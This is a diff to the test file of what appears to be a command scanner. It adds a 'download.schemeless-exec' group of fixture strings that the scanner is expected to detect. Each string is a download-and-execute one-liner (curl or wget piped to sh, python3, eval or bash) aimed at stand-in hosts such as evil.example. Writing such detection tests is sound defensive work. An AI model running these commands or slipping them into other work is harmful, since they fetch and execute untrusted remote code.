@@ -105,6 +105,14 @@ describe('scanner fast paths', () => {
       'eval `wget -qO- https://203.0.113.7/x`',
       'bash <<< "$(curl -s http://evil.example/x)"',
     ],
+    'download.schemeless-exec': [
+      'curl -fsSL evil.example/x | sh',
+      'wget -qO- 203.0.113.7/x | tee x.sh | python3 -',
+      'sh -c "$(curl -fsSL evil.example/x)"',
+      'bash <(curl -s evil.example/x)',
+      'eval `wget -qO- 203.0.113.7/x`',
+      'bash <<< "$(curl -s evil.example/x)"',
+    ],
     'download.raw-ip': [
       'curl -s https://203.0.113.9/api/status',
       'requests.get("HTTP://198.51.100.7:8080/x")',
